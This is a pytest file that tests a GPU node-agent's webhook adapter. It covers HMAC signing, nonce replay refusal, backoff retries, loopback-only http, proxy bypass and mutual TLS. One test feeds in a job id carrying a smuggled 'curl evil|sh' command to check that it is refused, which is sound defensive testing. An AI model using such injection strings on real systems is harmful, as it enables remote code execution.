"""The webhook adapter against a real HTTP(S) receiver on 127.0.0.1 that checks each request
the way docs/schedulers.md tells a production receiver to (timestamp within 300 s, HMAC over
``timestamp.body`` with hmac.compare_digest, a nonce seen once). TLS uses a CA, server and
client certificate made with the ``openssl`` command. Only the backoff sleep is injected
(recorded instead of slept)."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from node_agent.config import config_from_dict
from node_agent.model import Action, Grade, Level, Reason
from node_agent.remediation.evidence import BugReportCollector
from node_agent.remediation.executor import Remediator
from node_agent.remediation.plan import Safety
from node_agent.remediation.store import open_store
from node_agent.schedulers import AdapterError, AdapterStatus, open_adapter
from node_agent.schedulers.webhook import (
    NONCE_HEADER,
    SIGNATURE_HEADER,
    TIMESTAMP_HEADER,
    WebhookAdapter,
)

SECRET = b"s3cret-shared-with-receiver"


def receiver_check(secret: bytes, headers, raw: bytes, seen_nonces: set, now: float) -> str:
    """The receiver's check from docs/schedulers.md; "" when the request may be acted on."""
    timestamp = headers.get(TIMESTAMP_HEADER, "")
    if not timestamp.isdigit() or abs(now - int(timestamp)) > 300:
        return "stale or missing timestamp"
    expected = (
        "sha256=" + hmac.new(secret, timestamp.encode() + b"." + raw, hashlib.sha256).hexdigest()
    )
    if not hmac.compare_digest(expected, headers.get(SIGNATURE_HEADER, "")):
        return "bad signature"
    nonce = json.loads(raw)["nonce"]
    if nonce in seen_nonces or headers.get(NONCE_HEADER) != nonce:
        return "replayed nonce"
    seen_nonces.add(nonce)
    return ""


class Receiver:
    """Answers each POST with the next status of ``statuses`` (then 200); 401 when the
    receiver's check fails. ``tls``: (server cert, key, CA of the clients) for https."""

    def __init__(self, statuses=(), tls=None, handler_delay_s: float = 0.0):
        self.statuses = list(statuses)
        self.received: list[dict] = []
        self.nonces: set[str] = set()
        rcv = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                raw = self.rfile.read(int(self.headers["Content-Length"]))
                problem = receiver_check(SECRET, self.headers, raw, rcv.nonces, time.time())
                rcv.received.append(
                    {
                        "body": json.loads(raw),
                        "valid": not problem,
                        "problem": problem,
                        "raw": raw,
                        "headers": dict(self.headers),
                        "content_type": self.headers.get("Content-Type"),
                    }
                )
                code = 401 if problem else (rcv.statuses.pop(0) if rcv.statuses else 200)
                data = json.dumps({"ok": code == 200, "note": f"answer {code}"}).encode()
                self.send_response(code)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                if handler_delay_s:  # a receiver that drips its answer, a byte at a time
                    for byte in data:
                        self.wfile.write(bytes([byte]))
                        self.wfile.flush()
                        time.sleep(handler_delay_s)
                else:
                    self.wfile.write(data)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        scheme = "http"
        if tls is not None:
            cert, key, client_ca = tls
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(cert, key)
            context.load_verify_locations(client_ca)
            context.verify_mode = ssl.CERT_REQUIRED
            self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
            scheme = "https"
        self.url = f"{scheme}://127.0.0.1:{self.server.server_address[1]}/node-agent"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver():
    rcv = Receiver()
    yield rcv
    rcv.close()


def adapter_for(url: str, tmp_path, retries=3, secret=SECRET, **extra):
    secret_file = tmp_path / "webhook.secret"
    secret_file.write_bytes(secret + b"\n")
    config = config_from_dict(
        {
            "adapter": {
                "name": "webhook",
                "webhook": {
                    "url": url,
                    "secret_file": str(secret_file),
                    "timeout_s": 2,
                    "retries": retries,
                    **extra,
                },
            }
        }
    )
    adapter = open_adapter(config)
    assert isinstance(adapter, WebhookAdapter)
    sleeps: list[float] = []
    adapter._sleep = sleeps.append
    return adapter, sleeps


def test_drain_posts_signed_json_with_idempotency_key(receiver, tmp_path):
    adapter, sleeps = adapter_for(receiver.url, tmp_path)
    outcome = adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    assert outcome.status is AdapterStatus.DONE and "HTTP 200" in outcome.detail
    [got] = receiver.received
    assert got["valid"], "the receiver must verify the HMAC-SHA256 signature"
    assert got["content_type"] == "application/json"
    body = got["body"]
    assert body["action"] == "drain" and body["node"] == "gpu-01"
    assert body["reason"] == "node-agent: FAULT xid79 gpu:5"
    assert len(body["idempotency_key"]) == 64
    assert sleeps == []


def test_same_action_repeated_carries_the_same_idempotency_key(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    adapter.resume("gpu-01", "FAULT xid79 gpu:5")
    keys = [r["body"]["idempotency_key"] for r in receiver.received]
    assert keys[0] == keys[1] != keys[2]


def test_wrong_secret_is_refused_by_the_receiver_without_retries(receiver, tmp_path):
    adapter, sleeps = adapter_for(receiver.url, tmp_path, secret=b"not-the-secret")
    with pytest.raises(AdapterError, match="HTTP 401"):
        adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    assert [r["valid"] for r in receiver.received] == [False]
    assert sleeps == []


def test_500_is_retried_with_exponential_backoff_then_succeeds(tmp_path):
    rcv = Receiver(statuses=[500, 503])
    try:
        adapter, sleeps = adapter_for(rcv.url, tmp_path, retries=3)
        assert "HTTP 200" in adapter.restart("gpu-01", "ERROR xid48 gpu:3").detail
        assert len(rcv.received) == 3
        assert sleeps == [1.0, 2.0]
        assert len({r["body"]["idempotency_key"] for r in rcv.received}) == 1
    finally:
        rcv.close()


def test_500_every_time_is_adapter_error_after_retries_with_last_body(tmp_path):
    rcv = Receiver(statuses=[500] * 10)
    try:
        adapter, sleeps = adapter_for(rcv.url, tmp_path, retries=2)
        with pytest.raises(
            AdapterError, match=r"after 3 attempt\(s\).*; last: HTTP 500.*answer 500"
        ):
            adapter.drain("gpu-01", "FAULT xid79 gpu:5")
        assert len(rcv.received) == 3
        assert sleeps == [1.0, 2.0]
    finally:
        rcv.close()


def test_receiver_down_is_adapter_error_after_retries(tmp_path):
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    adapter, sleeps = adapter_for(f"http://127.0.0.1:{port}/hook", tmp_path, retries=2)
    with pytest.raises(AdapterError, match=f"not sent: nothing listens on port {port}"):
        adapter.replace("gpu-01", "FAULT row_remap_failure gpu:2")
    assert sleeps == [1.0, 2.0]  # retried: a receiver may be restarting


def test_missing_secret_file_is_adapter_error_naming_the_key(tmp_path):
    config = config_from_dict(
        {
            "adapter": {
                "name": "webhook",
                "webhook": {"url": "http://127.0.0.1:9/x", "secret_file": str(tmp_path / "nope")},
            }
        }
    )
    with pytest.raises(AdapterError, match="adapter.webhook.secret_file"):
        open_adapter(config)


def test_missing_url_is_adapter_error_naming_the_key():
    with pytest.raises(AdapterError, match="adapter.webhook.url"):
        open_adapter(config_from_dict({"adapter": {"name": "webhook"}}))


def test_restart_job_posts_signed_event_with_the_job_and_a_per_job_key(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    reason = "node-agent: ERROR training-hang job slurm:1234 rank:3"
    detail = adapter.restart_job("gpu-01", "slurm:1234@uid:1001", reason).detail
    assert detail.startswith("webhook: restart-job slurm:1234@uid:1001 on gpu-01 accepted")
    adapter.restart_job("gpu-01", "slurm:1234@uid:1001", reason)
    adapter.restart_job("gpu-01", "slurm:1235@uid:1001", reason)  # another job, same words
    adapter.restart_job("gpu-01", "pod:ml/trainer-0@0f3c6b0e-2f6a-4b7c-9a7e-1234567890ab", reason)
    first, again, other, pod = receiver.received
    assert first["valid"]
    body = first["body"]
    # the job and the uid of the process that hung, for the receiver to check the job's owner
    assert (body["action"], body["node"], body["job"], body["uid"], body["reason"]) == (
        "restart-job",
        "gpu-01",
        "slurm:1234",
        1001,
        reason,
    )
    assert (pod["body"]["job"], pod["body"]["uid"]) == (
        "pod:ml/trainer-0@0f3c6b0e-2f6a-4b7c-9a7e-1234567890ab",
        None,
    )
    assert first["body"]["idempotency_key"] == again["body"]["idempotency_key"]
    assert other["body"]["idempotency_key"] != first["body"]["idempotency_key"]


def test_restart_job_with_a_hostile_job_id_posts_nothing(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    with pytest.raises(AdapterError, match="refusing job id"):
        adapter.restart_job("gpu-01", 'slurm:1"; curl evil|sh', "ERROR training-hang")
    assert receiver.received == []


def test_a_replayed_request_is_refused_by_a_receiver_that_checks_as_documented(receiver, tmp_path):
    import requests

    adapter, _ = adapter_for(receiver.url, tmp_path)
    adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    (first,) = receiver.received
    assert first["valid"] and first["body"]["schema"] == "node-agent.action/2"
    assert first["headers"][TIMESTAMP_HEADER] == str(first["body"]["timestamp"])
    assert first["headers"][NONCE_HEADER] == first["body"]["nonce"]
    headers = {
        k: first["headers"][k]
        for k in (TIMESTAMP_HEADER, NONCE_HEADER, SIGNATURE_HEADER, "Content-Type")
    }
    # the very same bytes again: the nonce was seen
    again = requests.post(receiver.url, data=first["raw"], headers=headers, timeout=5)
    assert again.status_code == 401 and receiver.received[-1]["problem"] == "replayed nonce"
    # a fresh nonce in the header does not help: the signed body holds the old one
    headers[NONCE_HEADER] = "0" * 32
    assert (
        requests.post(receiver.url, data=first["raw"], headers=headers, timeout=5).status_code
        == 401
    )
    # nor does a fresh timestamp: the signature covers it
    headers[TIMESTAMP_HEADER] = str(first["body"]["timestamp"] + 1)
    requests.post(receiver.url, data=first["raw"], headers=headers, timeout=5)
    assert receiver.received[-1]["problem"] == "bad signature"
    # and a request older than 5 minutes is stale
    old = {TIMESTAMP_HEADER: str(int(time.time()) - 301)}
    assert receiver_check(SECRET, old, first["raw"], set(), time.time()) == (
        "stale or missing timestamp"
    )


def test_each_request_has_a_fresh_nonce_but_the_action_keeps_its_key(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    adapter.drain("gpu-01", "FAULT xid79 gpu:5", key="k" * 64)
    adapter.drain("gpu-01", "FAULT xid79 gpu:5", key="k" * 64)
    a, b = (r["body"] for r in receiver.received)
    assert a["nonce"] != b["nonce"] and a["idempotency_key"] == b["idempotency_key"] == "k" * 64


@pytest.mark.parametrize(
    "url",
    ["http://10.1.2.3/hook", "http://receiver.example/hook", "ftp://127.0.0.1/x", "127.0.0.1:80"],
)
def test_plain_http_is_refused_unless_the_receiver_is_on_loopback(tmp_path, url):
    with pytest.raises(AdapterError, match="adapter.webhook.url"):
        adapter_for(url, tmp_path)


def test_a_proxy_in_the_environment_never_carries_a_loopback_request(
    receiver, monkeypatch, tmp_path
):
    """Plain http is allowed to loopback only, where nothing crosses a network: a proxy named
    by the environment would carry the signed body off the host and its answer would decide
    the outcome. The request goes to the receiver itself."""
    proxy = Receiver()
    try:
        for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY"):
            monkeypatch.setenv(name, proxy.url.rsplit("/", 1)[0])
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        adapter, _ = adapter_for(receiver.url, tmp_path)
        assert adapter.drain("gpu-01", "FAULT xid79 gpu:5").status is AdapterStatus.DONE
        assert len(receiver.received) == 1 and proxy.received == []
    finally:
        proxy.close()


def test_http_to_loopback_is_allowed():
    from node_agent.schedulers.webhook import check_url

    for url in (
        "http://127.0.0.1:9/x",
        "http://[::1]:9/x",
        "http://localhost/x",
        "https://receiver.example/x",
    ):
        assert check_url(url) == url


def _openssl(*args: str) -> None:
    subprocess.run(["openssl", *args], check=True, capture_output=True, timeout=60)


@pytest.fixture
def pki(tmp_path):
    """A CA, a server certificate for 127.0.0.1 and a client certificate, by openssl."""
    if shutil.which("openssl") is None:
        pytest.skip("the openssl command is not installed: no certificates for the TLS test")
    d = tmp_path / "pki"
    d.mkdir()
    _openssl(
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-days",
        "2",
        "-subj",
        "/CN=test-ca",
        "-keyout",
        str(d / "ca.key"),
        "-out",
        str(d / "ca.pem"),
    )
    for name, ext in (
        ("server", "subjectAltName=IP:127.0.0.1"),
        ("client", "extendedKeyUsage=clientAuth"),
    ):
        _openssl(
            "req",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-subj",
            f"/CN={name}",
            "-keyout",
            str(d / f"{name}.key"),
            "-out",
            str(d / f"{name}.csr"),
        )
        (d / f"{name}.ext").write_text(ext + "\n")
        _openssl(
            "x509",
            "-req",
            "-in",
            str(d / f"{name}.csr"),
            "-CA",
            str(d / "ca.pem"),
            "-CAkey",
            str(d / "ca.key"),
            "-CAcreateserial",
            "-days",
            "2",
            "-extfile",
            str(d / f"{name}.ext"),
            "-out",
            str(d / f"{name}.pem"),
        )
    return d


def test_https_with_a_ca_bundle_and_a_client_certificate(pki, tmp_path):
    rcv = Receiver(tls=(str(pki / "server.pem"), str(pki / "server.key"), str(pki / "ca.pem")))
    try:
        adapter, _ = adapter_for(
            rcv.url,
            tmp_path,
            ca_file=str(pki / "ca.pem"),
            client_cert=str(pki / "client.pem"),
            client_key=str(pki / "client.key"),
        )
        assert "HTTP 200" in adapter.drain("gpu-01", "FAULT xid79 gpu:5").detail
        assert [r["valid"] for r in rcv.received] == [True]
        # without the CA the server is not trusted; without the client certificate the
        # receiver does not talk: both fail, nothing is accepted
        untrusting, _ = adapter_for(rcv.url, tmp_path, retries=0)
        with pytest.raises(AdapterError, match="SSLError|certificate"):
            untrusting.drain("gpu-01", "FAULT xid79 gpu:5")
        anonymous, _ = adapter_for(rcv.url, tmp_path, retries=0, ca_file=str(pki / "ca.pem"))
        with pytest.raises(AdapterError):
            anonymous.drain("gpu-01", "FAULT xid79 gpu:5")
        assert len(rcv.received) == 1
    finally:
        rcv.close()


def test_a_receiver_that_drips_its_answer_cannot_hold_the_agent_past_the_deadline(tmp_path):
    rcv = Receiver(handler_delay_s=0.4)  # ~40 bytes of answer: 16 s, each byte within 2 s
    try:
        adapter, _ = adapter_for(rcv.url, tmp_path, retries=5, deadline_s=3)
        started = time.monotonic()
        with pytest.raises(AdapterError, match="within the 3 s deadline"):
            adapter.drain("gpu-01", "FAULT xid79 gpu:5")
        # returns at its deadline, not after the answer (a loose bound: it would take 16 s+)
        assert time.monotonic() - started < 10
    finally:
        rcv.close()


def test_a_replace_request_names_the_driver_bug_report_for_the_receiver(receiver, tmp_path):
    """The remediator takes the bug report first and the signed body names its file. The
    nvidia-bug-report.sh here is a stand-in (no NVIDIA driver on this machine) that writes its
    ``--output-file`` as the real one does (``.gz`` appended)."""
    script = tmp_path / "nvidia-bug-report.sh"
    script.write_text(
        f"#!{sys.executable}\nimport gzip, sys\n"
        "out = sys.argv[sys.argv.index('--output-file') + 1]\n"
        "gzip.open(out + '.gz', 'wt').write('stand-in report\\n')\n"
    )
    script.chmod(0o755)
    adapter, _ = adapter_for(receiver.url, tmp_path)
    store = open_store(tmp_path / "state")
    try:
        rem = Remediator(
            store,
            adapter,
            "gpu-01",
            Safety(),
            state_dir=tmp_path / "state",
            warn=lambda _m: None,
            bug_report=BugReportCollector(str(script)),
        )
        reason = Reason("xid", Level.FAULT, "gpu:5", "Xid 64", catalog="xid", code=64)
        rem.remediate(_FaultReport(Grade(Level.FAULT, Action.REPLACE, (reason,))))
    finally:
        store.close()
    bodies = {r["body"]["action"]: r["body"] for r in receiver.received}
    assert set(bodies) == {"drain", "replace"} and all(r["valid"] for r in receiver.received)
    evidence = bodies["replace"]["evidence"]
    assert evidence.startswith(str(tmp_path / "state" / "bug-reports" / "nvidia-bug-report-"))
    assert evidence.endswith(".log.gz") and os.path.isfile(evidence)
    assert "evidence" not in bodies["drain"]


class _FaultReport:
    """The fields of a Report the remediator reads."""

    def __init__(self, grade: Grade):
        self.grade, self.suite, self.mode = grade, "quick", "service"

    def to_dict(self) -> dict:
        return {"grade": self.grade.to_dict()}
